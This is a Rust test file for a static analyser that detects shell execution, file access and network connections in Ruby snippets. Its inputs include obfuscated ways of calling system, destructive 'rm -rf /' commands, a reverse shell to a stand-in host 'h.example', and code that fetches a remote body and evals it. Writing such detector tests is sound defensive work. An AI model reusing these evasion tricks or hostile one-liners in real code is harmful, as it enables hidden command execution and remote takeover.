//! Ruby.

use super::check_in;
use aegish_code_parsers::language::Language::Ruby;

fn check(table: &[(&str, &[&str])]) {
    check_in(Ruby, table);
}

#[test]
fn commands_are_found_in_every_spelling() {
    check(&[
        ("c = 'id'; system(\"#{c} -u\")", &["shell id -u"]),
        ("Kernel.send(:system, 'id')", &["shell id"]),
        ("send(:exec, 'id')", &["shell id"]),
        ("Object.const_get(:Kernel).public_send('sys' + 'tem', 'id')", &["shell id"]),
        ("method(:system).call('id')", &["shell id"]),
        ("%w(id who).each(&method(:system))", &["shell id", "shell who"]),
        ("m = Kernel.method(:system).to_proc; m.('id')", &["shell id"]),
        ("(method(:format) >> method(:system)).call('%s', 'id')", &["shell id"]),
        ("instance_eval('system(%q(id))')", &["shell id"]),
        ("Object.class_eval { system 'id' }", &["shell id"]),
        ("system(['756e616d65'].pack('H*'))", &["shell uname"]),
        ("system('dW5hbWU='.unpack('m')[0])", &["shell uname"]),
        ("system('dW5hbWU='.unpack1('m'))", &["shell uname"]),
        ("system [105,100].map{|c|c.chr}.join", &["shell id"]),
        ("system [105,100].map(&:chr).join", &["shell id"]),
        ("system [105,100].pack('c*')", &["shell id"]),
        ("system 'di'.reverse", &["shell id"]),
        ("system 'je'.tr('a-z', 'z-za-y')", &["shell id"]),
        ("%w(id who).each { |c| system c }", &["shell id", "shell who"]),
        ("system ARGV[0]", &["shell first-arg"]),
        ("loop { fork }", &["exhaust"]),
        ("system <<~X\n  echo hi\nX\n", &["shell echo hi\n"]),
        ("alias go system; go 'id'", &["shell id"]),
        ("->(c) { system c }.('id')", &["shell id"]),
        ("x = proc { |c| system c }; x['id']; x.yield 'who'", &["shell id", "shell who"]),
        ("trap('EXIT', 'system(%q(id))')", &["shell id"]),
        ("at_exit { system 'id' }", &["shell id"]),
        ("END { system 'id' }", &["shell id"]),
        ("a = []; a << 'id'; a.each(&method(:system))", &["shell id"]),
        ("def go(*a, **k, &b) = b.call(*a)\ngo('id') { |c| system c }", &["shell id"]),
        ("def go; yield 'id'; end; go { |c| system c }", &["shell id"]),
        ("s = +''; s << 'i' << 'd'; system s", &["shell id"]),
        ("s = 'x'; t = s; t.replace('id'); system s", &["shell x", "shell id"]),
        ("h = {a: 'id'}; h => {a:}; system a", &["shell id"]),
        ("case ['run', 'id']\nin [_, cmd] then system cmd end", &["shell id"]),
        ("send(gets.chomp, 'id')", &["read first-arg", "hidden"]),
        ("system $x if $x && $_ =~ /a/; $x = 'id'", &["shell id"]),
        ("httpd", &["serve  first-arg"]),
        ("ERB.new('<li><%= `id` %></li>').result(binding)", &["shell id"]),
    ]);
}

#[test]
fn classes_and_objects_are_entered() {
    check(&[
        (
            "class A; def initialize(c) = @c = c\n def go = system(@c); end; A.new('id').go",
            &["shell id"],
        ),
        ("class A; attr_accessor :c; end; a = A.new; a.c = 'id'; system a.c", &["shell id"]),
        ("class A; def self.go(c) = system(c); end; A.go 'id'", &["shell id"]),
        ("class A; class << self; def go(c) = system(c); end; end; A.go 'id'", &["shell id"]),
        ("module M; def go = system('id'); end; class A; include M; end; A.new.go", &["shell id"]),
        (
            "class A; def method_missing(n, *a) = Kernel.send(n, *a); end; A.new.system('id')",
            &["shell id"],
        ),
        ("class A; define_method(:go) { |c| system c }; end; A.new.go('id')", &["shell id"]),
        ("class String; def go = system(self); end; 'id'.go", &["shell id"]),
        (
            "class A; def go(c) = system(c); end; class B < A; def go(c) = super; end; B.new.go 'id'",
            &["shell id"],
        ),
        ("S = Struct.new(:a, :b); system S.new('x', 'id').b", &["shell id"]),
        ("class A; X = 'id'; def go = system(X); end; A.new.go; system A::X", &["shell id"]),
        ("o = Object.new; def o.go = system('id'); o.go", &["shell id"]),
        ("class A; def run = system('id'); end", &["shell id"]),
        (
            "o = Object.new; o.instance_variable_set(:@a, 'id'); system o.instance_variable_get(:@a)",
            &["shell id"],
        ),
    ]);
}

#[test]
fn branches_are_joined() {
    check(&[
        (
            "if ENV['X'] then t = '/' else t = 'build' end; system 'rm -rf ' + t",
            &["shell rm -rf /", "shell rm -rf build"],
        ),
        (
            "unless ENV['X'] then t = '/' else t = 'build' end; system 'rm -rf ' + t",
            &["shell rm -rf build", "shell rm -rf /"],
        ),
        (
            "case ENV['X'] when 'a' then t = '/' else t = 'b' end; system 'rm ' + t",
            &["shell rm /", "shell rm b"],
        ),
        (
            "t = case ENV['X'] when 'a' then '/' else 'b' end; system 'rm ' + t",
            &["shell rm /", "shell rm b"],
        ),
        (
            "begin; t = '/'; Integer('x'); t = 'b'; rescue; end; system 'rm ' + t",
            &["shell rm b", "shell rm /"],
        ),
        (
            "t = begin; Integer('x'); 'a'; rescue => e; 'b'; ensure; 1; end; system 'rm ' + t",
            &["shell rm a", "shell rm b"],
        ),
        ("t = 'a'; t = '/' if ENV['X']; system 'rm ' + t", &["shell rm /", "shell rm a"]),
        ("t = ENV['X'] ? '/' : 'b'; system 'rm ' + t", &["shell rm /", "shell rm b"]),
        ("['/', 'b'].each { |c| $t = c; break }; system 'rm ' + $t", &["shell rm /", "shell rm b"]),
        (
            "def f; [1].each { return '/' }; 'b'; end; system 'rm ' + f",
            &["shell rm /", "shell rm b"],
        ),
        ("raise 'id'\nrescue => e\nsystem e.message", &["hidden"]),
        ("begin; raise 'id'; rescue => e; system e.message; end", &["shell id"]),
        ("x = 'a'; begin; system x; raise; rescue; x = 'id'; retry; end", &["shell a", "shell id"]),
    ]);
}

#[test]
fn files_follow_the_working_directory() {
    check(&[
        (
            "Dir.chdir('/etc'); f = File.open('hosts'); f.each_line { |l| puts l }",
            &["read /etc/hosts"],
        ),
        ("File.open('/tmp/x', 'w') { |f| f.puts 'a' }", &["write /tmp/x <- a\n"]),
        (
            "Dir.glob('/srv/*.log').each { |f| File.delete(f) }",
            &["list /srv/*.log", "delete /srv/*.log"],
        ),
        (
            "f=TCPSocket.open('h.example',99).to_i;exec sprintf('/bin/sh -i <&%d >&%d',f,f)",
            &["connect h.example 99", "attach", "shell /bin/sh -i <&‹received› >&‹received›"],
        ),
        (
            "c=TCPSocket.new('h.example',99);loop{IO.popen(c.gets.chomp){|io|c.print io.read}}",
            &["connect h.example 99", "received"],
        ),
        (
            "require 'net/http'; http = Net::HTTP.new('h.example', 443); r = http.get('/x'); eval r.body",
            &["connect h.example 443", "received"],
        ),
    ]);
}

#[test]
fn harmless_look_alikes_give_nothing() {
    check(&[
        ("# exec 'x'", &[]),
        ("puts ARGV.inspect", &[]),
        ("puts 1 + 1", &["print 2\n"]),
        ("h = {system: 1, exec: 2}; puts h[:exec]", &["print 2\n"]),
        ("puts $_ if /exec (.*)/", &[]),
        ("require 'json'; puts JSON.parse(STDIN.read)['a']", &[]),
        ("p %w[exec system]", &[]),
        ("puts RUBY_VERSION", &[]),
        ("Gem::Specification.each { |s| puts s.name }", &[]),
        ("db.exec('select 1')", &[]),
        ("puts [1,2,3].map { |x| x * 2 }.inspect", &[]),
        ("puts 1\n__END__\nsystem('id')\n", &["print 1\n"]),
        ("system = 'x'; puts system", &["print x\n"]),
        ("$stdout.sync = true; data = Hash.new { |h, k| h[k] = [] }; data[:a] << 1", &[]),
    ]);
}

#[test]
fn text_that_is_no_ruby_is_not_taken_for_harmless() {
    check(&[("system('id'", &["hidden"]), ("if )", &["hidden"])]);
}
